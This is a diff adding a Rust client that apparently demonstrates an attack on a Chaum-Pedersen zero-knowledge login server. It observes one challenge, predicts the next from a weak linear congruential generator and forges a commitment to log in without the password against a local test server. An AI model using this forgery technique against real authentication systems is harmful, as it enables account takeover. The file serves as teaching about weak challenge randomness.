@@ -0,0 +1,88 @@
+use num_bigint::BigUint;
+use zkp_chaum_pedersen::{
+    params,
+    challenge_rng::{forge_commitment, WeakLcg},
+    ZKP,
+};
+
+pub mod zkp_auth {
+    include!("./zkp_auth.rs");
+}
+
+use zkp_auth::{auth_client::AuthClient, AuthenticationAnswerRequest, AuthenticationChallengeRequest, RegisterRequest};
+
+const STRING_SIZE: usize = 12;
+
+#[tokio::main]
+async fn main() {
+    let addr = "http://127.0.0.1:50051".to_string();
+    let mut client = AuthClient::connect(addr)
+        .await
+        .expect("could not connect to the server");
+    println!("☑ Connected client to the server.");
+
+    let zkp = params::from_args_or_default().expect("could not load the group parameters");
+
+    // victim registers; only the public y1, y2 are kept afterwards
+    let user_name = format!("victim-{}", ZKP::generate_random_string(6));
+    let (y1, y2) = {
+        let password = ZKP::generate_random_string(STRING_SIZE);
+        let x = BigUint::from_bytes_be(password.as_bytes());
+        (
+            ZKP::exponentiate(&zkp.alpha, &x, &zkp.prime),
+            ZKP::exponentiate(&zkp.beta, &x, &zkp.prime),
+        )
+    };
+    let request = RegisterRequest {
+        user: user_name.clone(),
+        y1: y1.to_bytes_be(),
+        y2: y2.to_bytes_be(),
+    };
+    client.register(request)
+        .await
+        .expect("could not register in server");
+    println!("☑ Registered user {}, the password is forgotten.", user_name);
+
+    // probe: any commitment will do, we only want to observe one challenge
+    let request = AuthenticationChallengeRequest {
+        user: user_name.clone(),
+        r1: vec![1],
+        r2: vec![1],
+    };
+    let response = client.create_authentication_challenge(request)
+        .await
+        .expect("could not create challenge")
+        .into_inner();
+    let observed = BigUint::from_bytes_be(&response.c);
+    let predicted = WeakLcg::predict_next(&observed, &zkp.order)
+        .expect("challenge is not an LCG output, is the server running with --weak-challenge-rng?");
+    println!("Observed c = {}", observed);
+    println!("Predicted next c = {}", predicted);
+
+    // cheat: commit to values that satisfy the verification for the predicted c
+    let (r1, r2, s) = forge_commitment(&zkp, &y1, &y2, &predicted);
+    let request = AuthenticationChallengeRequest {
+        user: user_name,
+        r1: r1.to_bytes_be(),
+        r2: r2.to_bytes_be(),
+    };
+    let response = client.create_authentication_challenge(request)
+        .await
+        .expect("could not create challenge")
+        .into_inner();
+    if BigUint::from_bytes_be(&response.c) != predicted {
+        println!("☒ Prediction failed, another client probably asked for a challenge in between.");
+        return;
+    }
+
+    let request = AuthenticationAnswerRequest {
+        auth_id: response.auth_id,
+        s: s.to_bytes_be(),
+    };
+    let response = client.verify_authentication(request)
+        .await
+        .expect("server could not verify authentication of user")
+        .into_inner();
+
+    println!("⚠ Logged in without the password. SessionId is {}", response.session_id);
+}